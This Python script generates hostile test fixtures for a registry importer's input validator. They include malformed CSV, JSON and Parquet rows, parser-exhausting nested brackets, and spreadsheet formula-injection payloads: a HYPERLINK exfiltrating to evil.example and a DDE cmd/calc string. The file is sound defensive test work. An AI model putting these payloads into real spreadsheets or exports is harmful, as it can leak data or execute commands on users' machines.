"""Writes the hostile corpus beside this file (run it again after changing a case; the files
are committed, so that every case stays a regression test). Rows whose record_id starts with
``ok-`` are valid and must be kept; every other row must be refused with its own reason.

    python tests/registry/hostile/make.py
"""

from __future__ import annotations

import json
from pathlib import Path

HERE = Path(__file__).parent
ALICE = "11010519491231002X"
ACME = "91350100M000100Y43"
HEADER = "record_id,subject_id,code,occurred_on,amount,subject_name"


def ok(n: int, subject: str = ALICE) -> str:
    return f"ok-{n},{subject},court.arrears,2024-03-0{n % 9 + 1},100,"


def csv_file(name: str, rows: list[bytes], *, header: bytes = HEADER.encode()) -> None:
    (HERE / name).write_bytes(header + b"\n" + b"\n".join(rows) + b"\n")


def main() -> None:
    good = [ok(n).encode() for n in range(1, 4)]
    csv_file(
        "ragged.csv",
        [
            good[0],
            b"bad-1,x",
            b"bad-2," + ALICE.encode() + b",court.arrears,2024-03-01,1,,extra",
            b"",
            good[1],
            b'bad-3,"unterminated',
        ],
    )
    csv_file(
        "control.csv",
        [
            good[0],
            b"bad-\x00nul," + ALICE.encode() + b",court.arrears,2024-03-01,1,",
            b"bad-2," + ALICE.encode() + b",court.arrears,2024-03-01,1,Zhang\x00San",
            b"bad-3," + ALICE.encode() + b",court.arrears,2024-03-01,1,Zhang\x1bSan",
            b"bad-\x7f4," + ALICE.encode() + b",court.arrears,2024-03-01,1,",
            good[1],
        ],
    )
    csv_file(
        "utf8.csv",
        [
            good[0],
            b"bad-1," + ALICE.encode() + b",court.arrears,2024-03-01,1,\xff\xfe",
            b"bad-2," + ALICE.encode() + b",court.arrears,2024-03-01,1," + "张三".encode("gbk"),
            good[1],
            b"ok-9," + ALICE.encode() + b",court.arrears,2024-03-01,1," + "张三".encode(),
        ],
        header=b"\xef\xbb\xbf" + HEADER.encode(),  # a BOM before the header
    )
    csv_file(
        "gbk.csv",
        [
            (f"bad-{n},{ALICE},court.arrears,2024-03-01,1,{name}").encode("gbk")
            for n, name in ((1, "张三"), (2, "李四有限公司"))
        ]
        + good[:2],
    )
    csv_file(
        "huge.csv",
        [
            good[0],
            b"bad-1," + ALICE.encode() + b",court.arrears,2024-03-01,1," + b"x" * 300_000,
            b"bad-" + b"7" * 200 + b"," + ALICE.encode() + b",court.arrears,2024-03-01,1,",
            b"bad-3," + ALICE.encode() + b",court.arrears,2024-03-01,1," + "名".encode() * 201,
            good[1],
        ],
    )
    csv_file(
        "dates.csv",
        [
            good[0],
            b"bad-1," + ALICE.encode() + b",court.arrears,2199-01-01,1,",
            b"bad-2," + ALICE.encode() + b",court.arrears,1949-09-30,1,",
            b"ok-8," + ALICE.encode() + b",court.arrears,1949-10-01,1,",
            good[1],
        ],
    )
    csv_file(
        "formula.csv",
        [
            good[0],
            b'=HYPERLINK("http://evil.example/?x="&A1),' + ALICE.encode() + b",=cmd,2024-03-01,1,",
            b"bad-2,+cmd|' /C calc'!A0,court.arrears,2024-03-01,1,",
            b"bad-3," + ALICE.encode() + b",=1+1,2024-03-01,1,",
            good[1],
        ],
    )
    lines = [
        json.dumps(
            {
                "record_id": "ok-1",
                "subject_id": ALICE,
                "code": "court.arrears",
                "occurred_on": "2024-03-01",
                "amount": 12.5,
            }
        ).encode(),
        b"[" * 100_000 + b"]" * 100_000,
        b'{"record_id": "bad-2", "subject_id": ' + b"[" * 50_000 + b"]" * 50_000 + b"}",
        b'{"record_id": "bad-3", "subject_id": "' + ALICE.encode() + b'", "code": "court.arrears",'
        b' "occurred_on": "2024-03-01", "subject_name": "\xff"}',
        b'{"record_id": "bad-4"',
        b'"just a string"',
        b'{"record_id": "bad-6", "subject_id": {"a": 1}}',
        json.dumps(
            {
                "record_id": "ok-2",
                "subject_id": ACME,
                "code": "court.arrears",
                "occurred_on": "2024-03-02",
                "subject_name": "某某有限公司",
            },
            ensure_ascii=False,
        ).encode(),
        json.dumps(
            {
                "record_id": "bad-8",
                "subject_id": ALICE,
                "code": "court.arrears",
                "occurred_on": "2024-03-02",
                "subject_name": "x" * 5000,
            }
        ).encode(),
    ]
    (HERE / "hostile.jsonl").write_bytes(b"\xef\xbb\xbf" + b"\n".join(lines) + b"\n")
    array = (
        b'[{"record_id": "ok-1", "subject_id": "' + ALICE.encode() + b'", "code": "court.arrears",'
        b' "occurred_on": "2024-03-01"}, '
        + b"[" * 100_000
        + b"]" * 100_000
        + b', {"record_id": "bad-2", "code": '
        + b"{" * 1
        + b'"a":'
        + b"[" * 1000
        + b"]" * 1000
        + b'}}, 7, null, {"record_id": "ok-2", "subject_id": "'
        + ACME.encode()
        + b'", "code": "court.arrears", "occurred_on": "2024-03-02"}]'
    )
    (HERE / "hostile.json").write_bytes(array)
    parquet_file()


def parquet_file() -> None:
    """Parquet as a furnisher's tool writes it: typed columns (a date, a number) beside text,
    with the same hostile values the text formats carry."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    rows = [
        ("ok-1", ALICE, "court.arrears", "2024-03-01", 100.0, None),
        ("bad-nul\x00", ALICE, "court.arrears", "2024-03-01", 1.0, None),
        ("bad-ctl", ALICE, "court.arrears", "2024-03-01", 1.0, "张\x1b[31m三"),
        ("bad-huge", ALICE, "court.arrears", "2024-03-01", 1.0, "x" * 5000),
        ("bad-future", ALICE, "court.arrears", "2099-01-01", 1.0, None),
        ("bad-early", ALICE, "court.arrears", "1900-01-01", 1.0, None),
        ("bad-id", "110105194912310021", "court.arrears", "2024-03-01", 1.0, None),
        ("x" * 101, ALICE, "court.arrears", "2024-03-01", 1.0, None),
        ("=HYPERLINK(1)", "=cmd|' /C calc'!A0", "court.arrears", "2024-03-01", 1.0, None),
        ("bad-nan", ALICE, "court.arrears", "2024-03-01", float("nan"), None),
        ("bad-negative", ALICE, "court.arrears", "2024-03-01", -5.0, None),
        ("ok-2", ACME, "court.arrears", "2024-03-02", None, "荣成某某海产有限公司"),
    ]
    import datetime as dt

    columns = list(zip(*rows, strict=True))
    table = pa.table(
        {
            "record_id": pa.array(columns[0], pa.string()),
            "subject_id": pa.array(columns[1], pa.string()),
            "code": pa.array(columns[2], pa.string()),
            "occurred_on": pa.array([dt.date.fromisoformat(d) for d in columns[3]], pa.date32()),
            "amount": pa.array(columns[4], pa.float64()),
            "subject_name": pa.array(columns[5], pa.string()),
        }
    )
    pq.write_table(table, HERE / "hostile.parquet")


if __name__ == "__main__":
    main()
